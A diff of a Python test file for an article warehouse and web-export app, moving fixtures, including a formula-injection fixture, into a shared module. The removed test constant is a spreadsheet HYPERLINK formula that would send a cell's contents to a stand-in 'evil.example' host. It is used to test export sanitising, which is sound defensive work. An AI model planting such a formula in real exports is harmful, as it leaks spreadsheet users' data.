@@ -12,23 +12,17 @@ import sys
 import time
 import warnings
 from collections.abc import Iterator
-from datetime import UTC, datetime, timedelta
-from pathlib import Path
 
 import lxml.html
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from orewire.archive import WarcWriter
-from orewire.archive.manifest import ManifestWriter
-from orewire.demo.site import DemoArticle, article_page
 from orewire.settings import Settings
-from orewire.stages import rebuild_warehouse, write_run_record
 from orewire.warehouse import writer
 from orewire.web import create_app, exports, store
 from tests.conftest import REPO_ROOT
-from tests.web.bulk import FORMER_CAP, add_facts, copy_warehouse
+from tests.web.bulk import FORMER_CAP, FORMULA_TITLE, WRITER, add_facts, copy_warehouse, formula_warehouse
 from tests.web.conftest import query
 
 with warnings.catch_warnings():
@@ -122,18 +116,6 @@ def test_an_export_past_the_former_cap_comes_out_whole_in_pieces(big, tmp_path):
             assert len(pieces) >= len(expected) // store.EXPORT_CHUNK, (fmt, len(pieces))
 
 
-WRITER = """
-import sys
-from pathlib import Path
-from orewire.settings import Settings
-from orewire.warehouse import writer
-settings = Settings(warehouse=Path(sys.argv[1]), archive=Path(sys.argv[2]), state_dir=Path(sys.argv[3]))
-with writer(settings, timeout=60) as conn:
-    conn.execute("UPDATE articles SET title = 'Written during an export' WHERE article_id = ?", [sys.argv[4]])
-    print("writing", flush=True)
-    sys.stdin.readline()
-print("done", flush=True)
-"""
 
 
 @pytest.mark.slow
@@ -213,41 +195,9 @@ def client_built(built):
 # -- formula injection -------------------------------------------------------------------------
 
 
-FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Gold report")'
-FORMULA_TEXT = ["Kazakhmys acquired a 51% stake in Copper LLP for $120 million, the company said on Monday.",
-                "Kazatomprom produced 21,000 tonnes of uranium in 2023, the national atomic company reported.",
-                "The Aktogay deposit in the Abai region holds reserves of 1.2 million tonnes of copper."]
-
-
-def _formula_warehouse(root: Path) -> Settings:
-    """A warehouse loaded the way orewire loads one (archive, then rebuild through the writer)
-    from an article whose title is a spreadsheet formula."""
-    settings = Settings(warehouse=root / "wh" / "orewire.duckdb", archive=root / "raw",
-                        sources=REPO_ROOT / "sources.toml", state_dir=root / "state")
-    run_id = "20261101T000000Z-formula"
-    when = datetime.now(UTC).replace(microsecond=0) - timedelta(days=1)
-    article = DemoArticle(4188888, FORMULA_TITLE, FORMULA_TEXT, when, "Trend staff")
-    body = article_page(article, []).encode()
-    url = "https://en.trend.az" + article.path
-    with WarcWriter(settings.archive, "trend", run_id) as warc, \
-            ManifestWriter(settings.archive, "trend", run_id) as manifest:
-        loc = warc.write_exchange(
-            url=url, method="GET", request_headers=[("User-Agent", "orewire-test")], request_body=b"",
-            status=200, reason="OK", response_headers=[("Content-Type", "text/html; charset=utf-8")], body=body,
-            fetched_at=when, extra={"Source": "trend", "Run-ID": run_id})
-        manifest.write(url=url, final_url=url, status=200, fetched_at=when, warc_file=loc.warc_file,
-                       warc_offset=loc.offset, kind="article", bytes=len(body), content_type="text/html")
-    write_run_record(settings, {
-        "run_id": run_id, "flow": "daily", "source": "trend", "started_at": when, "finished_at": when,
-        "status": "ok", "fetched": 1, "new_articles": 1, "errors": 0, "params": {"sources": ["trend"]}})
-    result = rebuild_warehouse(settings)
-    assert not result.errors, result.errors
-    return settings
-
-
 @pytest.fixture(scope="module")
 def formula(tmp_path_factory) -> Settings:
-    settings = _formula_warehouse(tmp_path_factory.mktemp("formula"))
+    settings = formula_warehouse(tmp_path_factory.mktemp("formula"))
     assert _query(settings, "SELECT title FROM articles") == [(FORMULA_TITLE,)]
     # A negative number and text cells opening with each character a spreadsheet reads as a formula.
     with writer(settings, timeout=60) as conn:
